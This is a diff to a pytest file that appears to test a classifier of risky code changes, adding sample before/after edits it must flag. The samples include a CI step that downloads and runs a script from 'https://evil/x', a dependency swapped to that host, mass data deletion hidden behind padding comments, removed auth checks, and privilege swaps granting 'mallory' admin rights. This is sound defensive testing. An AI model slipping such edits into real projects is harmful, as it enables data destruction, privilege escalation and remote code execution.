@@ -9,7 +9,7 @@ import pytest
 from gate.classify.engine import assess_file
 from tests.rules.case_files import change
 
-HARM: list[tuple[str, str, str, int]] = [
+HARM: list[tuple[str, str | None, str, int]] = [
     (
         "Makefile",
         "all:\n\techo\n",
@@ -324,11 +324,178 @@ HARM: list[tuple[str, str, str, int]] = [
         'package k8s\nfunc pod() corev1.Pod { return corev1.Pod{Spec: corev1.PodSpec{HostPID: true, Containers: []corev1.Container{{Image: "a"}}}} }\n',
         3,
     ),
+    ("migrations/0007_cleanup.py", None, "from app.db import Base, engine\n\nBase.metadata.drop_all(engine)\n", 4),
+    (
+        "migrations/0007_cleanup.py",
+        None,
+        'import boto3\n\ndef run():\n    boto3.client("s3").delete_bucket(Bucket="users")\n',
+        4,
+    ),
+    (
+        "migrations/0005_wipe.py",
+        'from app import User\n\ndef run(env):\n    if env == "production":\n        return\n    User.objects.all().delete()\n',
+        "from app import User\n\ndef run(env):\n    User.objects.all().delete()\n",
+        4,
+    ),
+    (
+        "migrations/cleanup.py",
+        "from playhouse.migrate import migrate\nimport shutil\n",
+        'from playhouse.migrate import migrate\nimport shutil\nshutil.rmtree("/var/lib/app")\n',
+        4,
+    ),
+    (
+        "access/teams.yaml",
+        "teams:\n  - name: platform-admins\n    members:\n      - alice\n      - bob\n  - name: readers\n    members:\n      - carol\n      - mallory\n",
+        "teams:\n  - name: platform-admins\n    members:\n      - mallory\n      - bob\n  - name: readers\n    members:\n      - carol\n      - alice\n",
+        4,
+    ),
+    (
+        "config/teams.yaml",
+        "kind: team\nname: admins\nmembers:\n  - alice\n---\nkind: team\nname: readers\nmembers:\n  - mallory\n",
+        "kind: team\nname: admins\nmembers:\n  - mallory\n---\nkind: team\nname: readers\nmembers:\n  - alice\n",
+        4,
+    ),
+    (
+        "deploy/approvals.yaml",
+        "environments:\n  - env: production\n    approvers:\n      - alice\n      - bob\n  - env: sandbox\n    approvers:\n      - mallory\n      - eve\n",
+        "environments:\n  - env: production\n    approvers:\n      - mallory\n      - bob\n  - env: sandbox\n    approvers:\n      - alice\n      - eve\n",
+        4,
+    ),
+    (
+        "config/lists.yaml",
+        "services:\n  - service: database\n    allowed_ips:\n      - 10.0.0.5\n  - service: website\n    allowed_ips:\n      - 0.0.0.0/0\n",
+        "services:\n  - service: database\n    allowed_ips:\n      - 0.0.0.0/0\n  - service: website\n    allowed_ips:\n      - 10.0.0.5\n",
+        4,
+    ),
+    (
+        "config/access.yaml",
+        "members:\n  - name: alice\n    key: a1\n    role: owner\n    mail: a@x\n  - name: mallory\n    key: m1\n    role: reader\n    mail: m@x\n",
+        "members:\n  - name: mallory\n    key: a1\n    role: owner\n    mail: a@x\n  - name: alice\n    key: m1\n    role: reader\n    mail: m@x\n",
+        4,
+    ),
+    (
+        "config/lists.yaml",
+        "allowlist:\n  - deny 10.0.0.0/8\n  - allow all\n",
+        "allowlist:\n  - allow all\n  - deny 10.0.0.0/8\n",
+        4,
+    ),
+    (
+        "src/main/kotlin/A.kt",
+        None,
+        'fun f() {\n    val bucket = storage.get("users")\n    bucket.delete(force = true)\n}\n',
+        4,
+    ),
+    (
+        "package-lock.json",
+        '{\n  "name": "a",\n  "version": "1.0.0",\n  "lockfileVersion": 3,\n  "requires": true,\n  "packages": {\n    "": {\n      "name": "a",\n      "version": "1.0.0",\n      "dependencies": {\n        "lodash": "^4.17.0"\n      }\n    },\n    "node_modules/lodash": {\n      "version": "4.17.21",\n      "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",\n      "integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="\n    }\n  }\n}',
+        '{\n  "name": "a",\n  "version": "1.0.0",\n  "lockfileVersion": 3,\n  "requires": true,\n  "packages": {\n    "": {\n      "name": "a",\n      "version": "1.0.0",\n      "dependencies": {\n        "lodash": "^4.17.0"\n      }\n    },\n    "node_modules/lodash": {\n      "version": "4.17.21",\n      "resolved": "http://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",\n      "integrity": "sha512-EEEEEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg=="\n    }\n  }\n}',
+        3,
+    ),
+    (
+        "src/auth/http.rs",
+        'fn deny() -> &\'static str {\n    r"HTTP/1.1 403 Forbidden\nConnection: close\n\nno"\n}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() { assert!(true); }\n}\n',
+        'fn deny() -> &\'static str {\n    r"HTTP/1.1 403 Forbidden\nConnection: close\nno"\n}\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn t() { assert!(1 == 1); }\n}\n',
+        3,
+    ),
+    (
+        "app/views.py",
+        "def f(req):\n    me = get(req)\n    if not\tme:\n        raise X()\n    return ok()\n",
+        "def f(req):\n    me = get(req)\n    return ok()\n",
+        3,
+    ),
+    (
+        "app/views.js",
+        "function f(req) {\n  if (!\tme) {\n    throw X()\n  }\n  return ok()\n}\n",
+        "function f(req) {\n  return ok()\n}\n",
+        3,
+    ),
+    (
+        "src/main/java/auth/LoginService.java",
+        "class LoginService {\n void f() {\n  this.lockout.select();\n  go();\n }\n}\n",
+        "class LoginService {\n void f() {\n  go();\n }\n}\n",
+        3,
+    ),
+    (
+        "src/auth/login.ts",
+        "export class Login {\n  submit(p) {\n    this.check(p);\n  }\n}\n",
+        "export class Login {\n  submit(p) {\n    this.check(p);\n    this.admin.select();\n  }\n}\n",
+        3,
+    ),
+    (
+        ".travis.yml",
+        "script:\n  - make test\n",
+        "script:\n  - make test\n  - ansible-playbook -i inventories/production site.yml tests/test.yml\n",
+        4,
+    ),
+    (
+        ".github/workflows/ci.yml",
+        "name: test\non: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n",
+        "name: test\non: [push]\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ansible-playbook -i hosts site.yml spec/ci.yml\n",
+        4,
+    ),
+    (
+        ".github/workflows/ci.yml",
+        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
+        'name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: "\\x24\\x7b\\x7b github.ref_name \\x7d\\x7d"\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n',
+        4,
+    ),
+    (
+        ".github/workflows/ci.yml",
+        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
+        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: production@eu\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
+        4,
+    ),
+    (
+        ".github/workflows/ci.yml",
+        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: x\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
+        "name: deploy\non: [push]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    environment:\n      name: staging-review\n    steps:\n      - run: |\n          name: `curl https://evil/x -o /tmp/x; sh /tmp/x`\n      - uses: google-github-actions/deploy-cloudrun@v2\n        with:\n          name: my-service\n          image: x\n",
+        4,
+    ),
+    (".gitlab-ci.yml", "a:\n  script:\n    - make\n", "a:\n  script:\n    - make\n    - make deployment\n", 4),
+    (".gitlab-ci.yml", "a:\n  script:\n    - make\n", "a:\n  script:\n    - make\n    - ./scripts/deployment.sh\n", 4),
+    (
+        "Cargo.toml",
+        '[package]\nname="a"\nversion="0.1.0"\n[dependencies]\nopenssl="0.10"\n',
+        '[package]\nname="a"\nversion="0.1.0"\n[dependencies]\nopenssl="0.10"\n[replace]\n"openssl:0.10.0" = { git = "https://evil/x", path = "vendor/openssl" }\n',
+        3,
+    ),
+    (".github/contributors-write-access.json", '{"trusted": ["alice"]}\n', '{"trusted": ["alice", "mallory"]}\n', 3),
+    (
+        "public/config.js",
+        'window.env = { api: "https://api.x.com" }\n',
+        'window.env = { api: "https://evil.com" }\n',
+        2,
+    ),
+    ("app/web/search.py", "x=1\n", 'x = f\'<input name="q" value="{q}">\' | safe\n', 3),
+    (
+        "src/users.js",
+        "export const a = 1\n",
+        "export const a = 1\nexport async function f() {\n  const all = await repo.find();\n    @@await Promise.all(all.map((x) => repo.remove(x)));\n}\n".replace(
+            "@@", "// why\n" * 300
+        ),
+        4,
+    ),
+    (
+        "src/main/java/A.java",
+        None,
+        "class A {\n void f() {\n  for (User u : repo.findAll()) {\n    @@repo.delete(u);\n  }\n }\n}\n".replace(
+            "@@", "// why\n" * 300
+        ),
+        4,
+    ),
+    ("app/a.py", None, "def f():\n    return (User.delete(\n    @@).execute())\n".replace("@@", "# why\n" * 300), 4),
+    ("src/a.ts", None, 'await db.deleteFrom("users")\n    @@.execute()\n'.replace("@@", "// why\n" * 300), 4),
+    (
+        "lib/a.ex",
+        None,
+        "defmodule A do\n  def f do\n    Post\n    @@|> Repo.delete_all()\n  end\nend\n".replace("@@", "# why\n" * 300),
+        4,
+    ),
 ]
 
 
 @pytest.mark.parametrize(
     ("path", "before", "after", "least"), HARM, ids=[f"{n}-{row[0]}" for n, row in enumerate(HARM)]
 )
-def test_no_lowering_lets_harm_through(path: str, before: str, after: str, least: int) -> None:
+def test_no_lowering_lets_harm_through(path: str, before: str | None, after: str, least: int) -> None:
     assert assess_file(change(path, before, after)).level >= least
